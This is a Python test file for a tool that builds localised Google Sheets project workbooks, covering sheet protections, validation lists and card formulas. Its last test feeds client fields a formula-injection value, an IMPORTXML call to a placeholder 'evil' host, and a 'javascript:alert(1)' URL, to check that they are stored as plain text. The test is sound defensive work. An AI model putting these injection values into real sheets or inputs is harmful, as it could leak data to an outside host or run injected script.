"""The pure desired-state builder: what each sheet must look like for one client."""

from __future__ import annotations

from sheetsync.provision.desired import PROTECTION_PREFIX, ClientInfo, build, card_layout

from .conftest import CLIENT_EDITOR, DYNAMIC, MANAGER, SA


def test_sheets_in_order_with_localised_titles(desired):
    assert [s.kind for s in desired.sheets] == ["card", "backlog", "in_work", "plan_schedule", "metrics"]
    assert [s.title for s in desired.sheets] == ["Карточка", "Бэклог", "В работе", "План-график", "Метрики"]
    assert desired.title == "ACME — проект с агентством"
    assert desired.locale == "ru_RU" and desired.time_zone == "Europe/Moscow"


def test_protection_editors_follow_who_may_edit(desired):
    prot = {p.description.removeprefix(PROTECTION_PREFIX): p for p in desired.sheet("backlog").protections}
    assert prot["backlog:col:key"].editors == (SA,)
    assert prot["backlog:header"].editors == (SA,)
    assert prot["backlog:col:title"].editors == (SA, MANAGER)
    assert prot["backlog:col:client_comment"].editors == (SA, MANAGER, CLIENT_EDITOR)
    assert prot["backlog:col:key"].range == {"startRowIndex": 1, "startColumnIndex": 0, "endColumnIndex": 1}
    for kind in ("card", "plan_schedule"):
        (p,) = desired.sheet(kind).protections
        assert p.range == {} and p.editors == (SA,)
    metrics = {p.description for p in desired.sheet("metrics").protections}
    assert f"{PROTECTION_PREFIX}metrics:col:progress" in metrics


def test_validation_uses_localised_labels_and_store_lists(desired, acme, templates, access):
    cols = {c.key: c for c in desired.sheet("backlog").columns}
    status = cols["status"].validation["condition"]
    assert status["type"] == "ONE_OF_LIST"
    assert [v["userEnteredValue"] for v in status["values"]][:3] == ["Бэклог", "Запланирована", "В работе"]
    assert [v["userEnteredValue"] for v in cols["assignee"].validation["condition"]["values"]] == DYNAMIC["specialists"]
    assert cols["priority"].validation["condition"] == {
        "type": "NUMBER_BETWEEN", "values": [{"userEnteredValue": "1"}, {"userEnteredValue": "5"}]}
    assert cols["estimate_hours"].number_format == {"type": "NUMBER", "pattern": "0.0"}
    assert cols["title"].validation is None and cols["title"].number_format is None
    en = build(ClientInfo(**{**acme.__dict__, "locale": "en"}), templates, access=access, dynamic_vocabularies={})
    ecols = {c.key: c for c in en.sheet("backlog").columns}
    assert ecols["status"].validation["condition"]["values"][0] == {"userEnteredValue": "Backlog"}
    assert ecols["assignee"].validation is None  # no specialists yet: no (empty, invalid) list rule
    assert {c.key: c for c in en.sheet("in_work").columns}["deadline"].number_format["pattern"] == "yyyy-mm-dd"


def _cells(sheet):
    return {(c.row, c.col): c for c in sheet.cells}


def test_card_contents(desired, templates):
    card = desired.sheet("card")
    layout = card_layout(templates["card"], templates.vocabularies)
    cells = _cells(card)
    assert cells[(0, 0)].data["userEnteredValue"] == {"stringValue": "ACME — карточка проекта"}
    assert cells[(layout.field_rows["manager"], 1)].data["userEnteredValue"] == {
        "stringValue": "Анна Петрова <anna@agency.test>"}
    assert cells[(layout.field_rows["tracker"], 1)].data["userEnteredValue"] == {
        "formulaValue": '=HYPERLINK("https://kaiten.example/b/acme","Открыть доску")'}
    done = cells[(layout.counter_rows["done"], 1)].data["userEnteredValue"]["formulaValue"]
    assert done == "=COUNTIF('Бэклог'!$J$2:$J,\"Готово\")+COUNTIF('В работе'!$G$2:$G,\"Готово\")"
    assert "cancelled" not in layout.counter_rows
    assert cells[(layout.total_row, 1)].data["userEnteredValue"] == {"formulaValue": "=COUNTA('Бэклог'!$B$2:$B)"}
    r, c = layout.last_sync
    assert cells[(r, c)].managed is False  # the sync owns it
    legend = [cells[(layout.legend_first_row + i, 0)].data for i in range(7)]
    assert legend[5]["userEnteredValue"] == {"stringValue": "Готово"}
    assert legend[5]["userEnteredFormat"]["backgroundColor"]["green"] > 0.9


def test_store_text_stays_text_on_the_card(acme, templates, access):
    nasty = ClientInfo(**{**acme.__dict__, "name": "=IMPORTXML(\"http://evil\",\"//a\")", "contacts": "+7 999 123",
                          "tracker_url": 'javascript:alert(1)"', "manager_name": "@boss"})
    d = build(nasty, templates, access=access, dynamic_vocabularies={})
    layout = card_layout(templates["card"], templates.vocabularies)
    cells = _cells(d.sheet("card"))
    assert cells[(layout.field_rows["client_name"], 1)].data["userEnteredValue"] == {
        "stringValue": "=IMPORTXML(\"http://evil\",\"//a\")"}
    assert cells[(layout.field_rows["contacts"], 1)].data["userEnteredValue"] == {"stringValue": "+7 999 123"}
    assert cells[(layout.field_rows["tracker"], 1)].data["userEnteredValue"] == {"stringValue": 'javascript:alert(1)"'}
    for c in d.sheet("card").cells:  # the only formulas are ours: counters and the hyperlink
        f = c.data.get("userEnteredValue", {}).get("formulaValue")
        assert f is None or f.startswith(("=COUNTIF(", "=COUNTA(", "=HYPERLINK(")) and "IMPORTXML" not in f
